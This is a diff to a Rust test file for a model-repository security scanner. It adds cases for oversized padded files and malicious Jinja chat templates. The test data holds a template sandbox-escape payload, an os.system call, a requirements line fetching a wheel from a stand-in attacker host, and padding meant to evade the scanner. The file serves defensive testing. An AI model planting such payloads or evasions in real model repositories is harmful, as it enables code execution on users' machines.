@@ -137,6 +137,22 @@ attacks! {
         hub_blob("tokenizer_config.json", r#"{"tokenizer_class": "X", "chat_template": "{{ ''.__class__.__mro__[1].__subclasses__() }}"}"#);
     "hub-config-in-blob", "folder/remote-code", Suspicious, ["CVE-2026-22807"],
         hub_blob("config.json", r#"{"model_type": "x", "auto_map": {"AutoModel": "other/code--modeling_x.X"}}"#);
+    "hub-padded-code-in-blob", "unreadable/budget", Unreadable, [],
+        hub_blob("x.py", &padded("import os\nos.system('id')\n"));
+    "hub-padded-requirements-in-blob", "unreadable/budget", Unreadable, [],
+        hub_blob("requirements.txt", &padded("evil @ https://attacker.example/evil.whl\n"));
+    "hub-padded-template-in-blob", "unreadable/not-read", Unreadable, [],
+        hub_blob("chat_template.jinja", &padded("{{ ''.__class__.__mro__[1].__subclasses__() }}\0"));
+    "hub-template-with-zero-in-blob", "template/object-access", Malicious, [],
+        hub_blob("chat_template.jinja", "{{ ''.__class__.__mro__[1].__subclasses__() }}\0");
+    "code-padded", "unreadable/budget", Unreadable, [],
+        python(&padded("import os\nos.system('id')\n"));
+    "code-of-any-name-padded", "unreadable/budget", Unreadable, [],
+        calling("harmless", vec![("harmless.py", &padded("import os\nos.system('id')\nclass X: pass\n"))]);
+    "template-late", "template/object-access", Malicious, [],
+        file("tool_use.jinja", &format!("{}{{{{ ''.__class__.__mro__[1].__subclasses__() }}}}", " ".repeat(600)));
+    "template-padded", "unreadable/budget", Unreadable, [],
+        file("chat_template.jinja", &padded("{{ ''.__class__.__mro__[1].__subclasses__() }}"));
     "code-encoding", "code/not-understood", Unreadable, [],
         python("# -*- coding: utf-7 -*-\n#+AAo-import os\n");
     "code-cut", "code/not-understood", Unreadable, [],
@@ -178,6 +194,11 @@ fn file(name: &str, text: &str) -> Vec<(String, Content)> {
 
 fn python(text: &str) -> Vec<(String, Content)> {
     file("modeling_x.py", text)
+}
+
+/// More than any reader of texts takes.
+fn padded(text: &str) -> String {
+    format!("{text}{}", "#".repeat((4 << 20) + 1))
 }
 
 /// A repository whose configuration has loading run a module of its folder.
